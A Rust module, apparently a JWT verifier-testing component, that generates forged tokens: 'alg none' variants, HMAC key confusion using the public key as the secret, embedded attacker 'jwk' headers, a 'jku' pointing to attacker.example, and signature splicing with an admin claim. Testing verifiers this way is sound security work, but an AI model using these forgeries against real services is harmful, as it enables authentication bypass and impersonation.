//! Attacks on whoever lets a token say how it is to be verified.

use serde_json::{Value, json};

use crate::jwt::{Algorithm, Key, base64url, compact, decode_base64url};

/// Each with its name.
pub(super) fn confused(key: &Key, payload: &str) -> Vec<(&'static str, String)> {
    let public = key.jwk();
    let mut all = Vec::new();
    let header = |alg: &str| json!({"alg": alg, "kid": key.kid(), "typ": "JWT"}).to_string();
    for alg in ["none", "None", ""] {
        all.push((
            "alg none without a signature",
            compact(header(alg), payload, ""),
        ));
        all.push(("alg none with one", compact(header(alg), payload, "x")));
    }
    // The public key as the secret of an HMAC, in each form somebody might have it in.
    let mut secrets = vec![
        ("JWK as the secret", public.to_string().into_bytes()),
        ("no secret", vec![]),
        ("zeros as the secret", vec![0; 32]),
    ];
    for (name, field) in [("modulus", "n"), ("x", "x")] {
        if let Some(text) = public[field].as_str() {
            secrets.push((name, decode_base64url(text)));
            secrets.push((name, text.as_bytes().to_vec()));
        }
    }
    if let (Some(x), Some(y)) = (public["x"].as_str(), public["y"].as_str()) {
        let point = [&[4][..], &decode_base64url(x), &decode_base64url(y)].concat();
        secrets.push(("point as the secret", point));
    }
    for (name, secret) in secrets {
        for algorithm in [Algorithm::Hs256, Algorithm::Hs384, Algorithm::Hs512] {
            let hmac = Key::octets(algorithm, key.kid(), &secret);
            all.push((name, hmac.token_of(header(algorithm.name()), payload)));
        }
    }
    // A key of the attacker's, brought along.
    let theirs = Key::new(key.algorithm(), "attacker");
    let brought = |field: &str, value: Value| {
        let mut header = key.header();
        header[field] = value;
        theirs.token_of(header.to_string(), payload)
    };
    all.push((
        "another key's signature",
        theirs.token_of(key.header().to_string(), payload),
    ));
    all.push(("embedded jwk", brought("jwk", theirs.jwk())));
    all.push(("embedded jwk without kid", {
        let mut jwk = theirs.material();
        jwk["use"] = json!("sig");
        let mut header = json!({"alg": key.algorithm().name(), "jwk": jwk});
        header["typ"] = json!("JWT");
        theirs.token_of(header.to_string(), payload)
    }));
    all.push((
        "jku of the attacker",
        brought("jku", json!("http://attacker.example/jwks.json")),
    ));
    // Good parts of different tokens.
    let other = key.token(&json!({"iss": "somebody else", "sub": "admin"}));
    let spliced = |payload: &str| {
        let parts: Vec<&str> = other.split('.').collect();
        format!("{}.{}.{}", parts[0], base64url(payload), parts[2])
    };
    all.push(("another token's signature", spliced(payload)));
    all
}
